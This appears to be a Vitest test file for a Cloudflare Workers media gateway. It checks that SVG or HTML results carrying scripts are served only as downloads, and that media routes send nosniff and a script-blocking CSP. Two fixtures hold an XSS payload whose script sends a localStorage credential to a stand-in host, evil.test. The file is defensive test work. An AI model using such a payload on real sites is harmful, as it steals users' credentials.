/**
 * Media never runs as script on the gateway's origin (issue 15). An upstream picks a task's
 * result URL; when it points at an SVG with a script or an HTML page, the gateway neither
 * copies it nor serves it as a page: the link answers it only as a download no browser renders.
 * Every media answer (result images and videos, from R2 or streamed before their copy, uploads,
 * album photos, template pictures) carries nosniff and a CSP that forbids script, whatever the
 * request (GET, HEAD, cache hit, range, 304).
 */
import { createExecutionContext, runInDurableObject, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { createApp } from "../../src/app";
import { sign } from "../../src/auth/signing";
import { defaultDeps } from "../../src/deps";
import { videoLinkValue } from "../../src/images/links";
import { MEDIA_CSP } from "../../src/images/serve";
import { taskObject } from "../../src/tasks/task-object-stub";
import { png } from "../helpers/album";
import { BASE, uniqueSub, waitFor } from "../helpers/api";
import { insertTaskRow, taskRow, userId } from "../helpers/db";
import { resetDeps, useFetch } from "../helpers/deps";

const ascii = (text: string) => Uint8Array.from([...text].map((ch) => ch.charCodeAt(0)));

const SVG = ascii(
	'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?k="+localStorage.getItem("mj-edge.credential"))</script></svg>',
);
const HTML = ascii(
	'<!doctype html><html><body><script>fetch("https://evil.test/?k="+localStorage.getItem("mj-edge.credential"))</script></body></html>',
);

/** The first bytes of each media type the gateway serves, then filler: judged by these bytes alone. */
const MEDIA: Record<string, Uint8Array> = {
	"image/jpeg": Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, ...ascii("JFIF"), 0, 1, 1, 0, 0xff, 0xd9]),
	"image/webp": Uint8Array.from([...ascii("RIFF"), 26, 0, 0, 0, ...ascii("WEBPVP8L"), 13, 0, 0, 0, 0x2f, 0, 0, 0]),
	"image/gif": Uint8Array.from([...ascii("GIF89a"), 1, 0, 1, 0, 0, 0, 0, 0x3b]),
	"video/mp4": Uint8Array.from([0, 0, 0, 0x18, ...ascii("ftypmp42"), 0, 0, 0, 0, ...ascii("mp42isom"), 0, 0, 0, 8]),
	"video/webm": Uint8Array.from([
		0x1a,
		0x45,
		0xdf,
		0xa3,
		0x9f,
		0x42,
		0x86,
		0x81,
		1,
		0x42,
		0x82,
		0x84,
		...ascii("webm"),
		0x18,
		0x53,
		0x80,
		0x67,
	]),
};

/** What the media host answers, by path; the upstream's declared type is whatever a test says. */
const hosted: Record<string, { body: Uint8Array; type: string }> = {};
const mediaFetch = async (input: RequestInfo | URL, init?: RequestInit) => {
	const request = new Request(input, init);
	const url = new URL(request.url);
	const file = url.host === "media.test" ? hosted[url.pathname] : undefined;
	if (!file) throw new TypeError(`network disabled in tests: ${request.url}`);
	return new Response(file.body, {
		headers: { "content-type": file.type, "content-length": String(file.body.length) },
	});
};
const app = createApp({ ...defaultDeps(), fetch: mediaFetch });

let owner: number;
beforeAll(async () => {
	owner = await userId(uniqueSub("media-headers"));
	hosted["/grid.png"] = { body: await png(4, 4, 3), type: "image/png" };
});

afterEach(() => {
	resetDeps();
	vi.restoreAllMocks();
});

async function get(path: string, headers: HeadersInit = {}, method = "GET"): Promise<Response> {
	const ctx = createExecutionContext();
	const response = await app.fetch(new Request(`${BASE}${path}`, { method, headers }), env, ctx);
	const copy = new Response(await response.arrayBuffer(), response);
	await waitOnExecutionContext(ctx);
	return copy;
}

function expectMediaHeaders(response: Response, label: string): void {
	expect(response.headers.get("x-content-type-options"), label).toBe("nosniff");
	expect(response.headers.get("content-security-policy"), label).toBe(MEDIA_CSP);
}

/** A download no browser renders: not the upstream's type, not a page, and sandboxed anyway. */
function expectDownloadOnly(response: Response, label: string): void {
	expect(response.status, label).toBe(200);
	expect(response.headers.get("content-type"), label).toBe("application/octet-stream");
	expect(response.headers.get("content-disposition"), label).toBe("attachment");
	expectMediaHeaders(response, label);
}

const imageLink = async (id: string) => `/mj/image/${id}?sig=${await sign(env, "image", id)}`;
const videoLink = async (id: string, n = 0) =>
	`/mj/video/${id}/${n}?sig=${await sign(env, "image", videoLinkValue(id, n))}`;

/**
 * A task that succeeds with `media` as its result; resolves once the object's alarm has copied
 * (or given up on) it. The object downloads with the runtime's Deps.fetch, answered here by media.test.
 */
async function succeeded(media: { imageUrl?: string; videoUrls?: string[] }): Promise<string> {
	useFetch(mediaFetch);
	const row = await insertTaskRow({ userId: owner, status: "IN_PROGRESS", upstreamId: `up-${crypto.randomUUID()}` });
	const object = taskObject(env, row.publicId);
	await object.apply(row.publicId, { status: "SUCCESS", progress: "100%", ...media });
	await waitFor(
		() =>
			runInDurableObject(object, async (_instance, state) => {
				const stored = await state.storage.get<{ effects: { copy: boolean } }>("state");
				return stored?.effects.copy === false;
			}),
		10_000,
		"the copy to end",
	);
	return row.publicId;
}

describe("an upstream result that is not media", () => {
	it.each([
		["an SVG with a script, declared image/svg+xml", SVG, "image/svg+xml"],
		["an SVG with a script, declared image/png", SVG, "image/png"],
		["an HTML page, declared text/html", HTML, "text/html; charset=utf-8"],
	])("%s: not copied; the link answers it only as a download", async (_name, body, type) => {
		const path = `/${crypto.randomUUID()}`;
		hosted[path] = { body, type };
		vi.spyOn(console, "error").mockImplementation(() => {});
		const id = await succeeded({ imageUrl: `http://media.test${path}` });

		const row = await taskRow(id);
		expect(row.status).toBe("SUCCESS");
		expect(row.imageKey).toBeNull();
		expect(await env.IMAGES.head(`images/${id}`)).toBeNull();

		const link = await imageLink(id);
		const response = await get(link);
		expectDownloadOnly(response, "GET");
		expect(response.headers.get("content-type")).not.toBe(type);
		const head = await get(link, {}, "HEAD");
		expectDownloadOnly(head, "HEAD");
		expect(await head.text()).toBe("");
	});

	it("an HTML page as a result video: the video link answers it only as a download", async () => {
		const path = `/${crypto.randomUUID()}.mp4`;
		hosted[path] = { body: HTML, type: "video/mp4" };
		vi.spyOn(console, "error").mockImplementation(() => {});
		const id = await succeeded({ videoUrls: [`http://media.test${path}`] });
		expect(await env.IMAGES.head(`videos/${id}/0`)).toBeNull();
		expectDownloadOnly(await get(await videoLink(id)), "video");
	});

	it("before any copy, the link streams an upstream's SVG only as a download", async () => {
		const path = `/${crypto.randomUUID()}.svg`;
		hosted[path] = { body: SVG, type: "image/svg+xml" };
		const row = await insertTaskRow({ userId: owner, status: "SUCCESS", upstreamImageUrl: `http://media.test${path}` });
		const response = await get(await imageLink(row.publicId));
		expectDownloadOnly(response, "stream");
		expect(response.headers.get("cache-control")).toBe("no-store");
	});

	it("an object stored before its bytes were judged is served only as a download", async () => {
		const id = crypto.randomUUID();
		await env.IMAGES.put(`images/${id}`, SVG, { httpMetadata: { contentType: "image/svg+xml" } });
		const link = await imageLink(id);
		expectDownloadOnly(await get(link), "first view");
		// The second view comes from the Cache API.
		expectDownloadOnly(await get(link), "cached view");
	});
});

describe("an upstream result that is media", () => {
	it.each(Object.keys(MEDIA))(
		"%s declared application/octet-stream is copied as the type its bytes show and served so",
		async (type) => {
			const path = `/${crypto.randomUUID()}`;
			hosted[path] = { body: MEDIA[type], type: "application/octet-stream" };
			const video = type.startsWith("video/");
			const id = await succeeded(
				video ? { videoUrls: [`http://media.test${path}`] } : { imageUrl: `http://media.test${path}` },
			);
			const key = video ? `videos/${id}/0` : `images/${id}`;
			expect((await env.IMAGES.head(key))?.httpMetadata?.contentType).toBe(type);
			const row = await taskRow(id);
			if (!video) expect(row.imageType).toBe(type);
			const response = await get(video ? await videoLink(id) : await imageLink(id));
			expect(response.status).toBe(200);
			expect(response.headers.get("content-type")).toBe(type);
			expect(response.headers.get("content-disposition")).toBeNull();
			expectMediaHeaders(response, type);
			expect(new Uint8Array(await response.arrayBuffer())).toEqual(MEDIA[type]);
		},
	);

	it("a PNG is copied as image/png; before its copy the link streams it as image/png", async () => {
		const id = await succeeded({ imageUrl: "http://media.test/grid.png" });
		expect((await env.IMAGES.head(`images/${id}`))?.httpMetadata?.contentType).toBe("image/png");

		const path = `/${crypto.randomUUID()}`;
		hosted[path] = { body: hosted["/grid.png"].body, type: "text/html" };
		const row = await insertTaskRow({ userId: owner, status: "SUCCESS", upstreamImageUrl: `http://media.test${path}` });
		const response = await get(await imageLink(row.publicId));
		expect(response.headers.get("content-type")).toBe("image/png");
		expect(response.headers.get("content-length")).toBe(String(hosted["/grid.png"].body.length));
		expectMediaHeaders(response, "stream");
		expect(new Uint8Array(await response.arrayBuffer())).toEqual(hosted["/grid.png"].body);
	});
});

describe("every media route", () => {
	/** Each route with an object behind it: its path, and the bytes it serves. */
	const routes: Record<string, () => Promise<string>> = {
		"result image (R2)": async () => {
			const id = crypto.randomUUID();
			await env.IMAGES.put(`images/${id}`, hosted["/grid.png"].body, { httpMetadata: { contentType: "image/png" } });
			return imageLink(id);
		},
		"result image (streamed before its copy)": async () => {
			const row = await insertTaskRow({
				userId: owner,
				status: "SUCCESS",
				upstreamImageUrl: "http://media.test/grid.png",
			});
			return imageLink(row.publicId);
		},
		"result video (R2)": async () => {
			const id = crypto.randomUUID();
			await env.IMAGES.put(`videos/${id}/0`, MEDIA["video/mp4"], { httpMetadata: { contentType: "video/mp4" } });
			return videoLink(id);
		},
		"result video (streamed before its copy)": async () => {
			const path = `/${crypto.randomUUID()}.mp4`;
			hosted[path] = { body: MEDIA["video/mp4"], type: "video/mp4" };
			const row = await insertTaskRow({
				userId: owner,
				status: "SUCCESS",
				videoUrls: JSON.stringify([`http://media.test${path}`]),
			});
			return videoLink(row.publicId);
		},
		upload: async () => {
			const name = `${crypto.randomUUID()}.png`;
			await env.IMAGES.put(`uploads/${name}`, hosted["/grid.png"].body, { httpMetadata: { contentType: "image/png" } });
			return `/mj/upload/${name}?sig=${await sign(env, "image", `upload/${name}`)}`;
		},
		"album photo": async () => {
			const name = `${crypto.randomUUID()}.png`;
			await env.IMAGES.put(`album-origins/${name}`, hosted["/grid.png"].body, {
				httpMetadata: { contentType: "image/png" },
			});
			return `/userAlbum/origin/${name}?sig=${await sign(env, "album-origin", name)}`;
		},
		"template picture": async () => {
			const name = `${crypto.randomUUID()}.png`;
			await env.IMAGES.put(`templates/${name}`, hosted["/grid.png"].body, {
				httpMetadata: { contentType: "image/png" },
			});
			return `/imageTemp/file/${name}`;
		},
	};

	it.each(Object.keys(routes))(
		"%s: nosniff and the CSP on GET, a repeat GET, HEAD, a range and a 304",
		async (name) => {
			const path = await routes[name]();
			const first = await get(path);
			expect(first.status, name).toBe(200);
			expect(first.headers.get("content-type"), name).toMatch(/^(image\/png|video\/mp4)$/);
			expectMediaHeaders(first, `${name}: GET`);
			expectMediaHeaders(await get(path), `${name}: repeat GET`);
			const head = await get(path, {}, "HEAD");
			expect(head.status).toBe(200);
			expectMediaHeaders(head, `${name}: HEAD`);
			expectMediaHeaders(await get(path, { range: "bytes=0-3" }), `${name}: range`);
			const etag = first.headers.get("etag");
			if (etag) {
				const unchanged = await get(path, { "if-none-match": etag });
				expect(unchanged.status).toBe(304);
				expectMediaHeaders(unchanged, `${name}: 304`);
			}
		},
	);

	it("a cache entry stored without the headers still goes out with them", async () => {
		const id = crypto.randomUUID();
		await env.IMAGES.put(`images/${id}`, SVG, { httpMetadata: { contentType: "image/svg+xml" } });
		const path = await imageLink(id);
		await caches.default.put(
			new Request(`${BASE}${path}`),
			new Response(SVG, { headers: { "content-type": "image/svg+xml", "cache-control": "max-age=3600" } }),
		);
		expectDownloadOnly(await get(path), "old cache entry");
	});
});
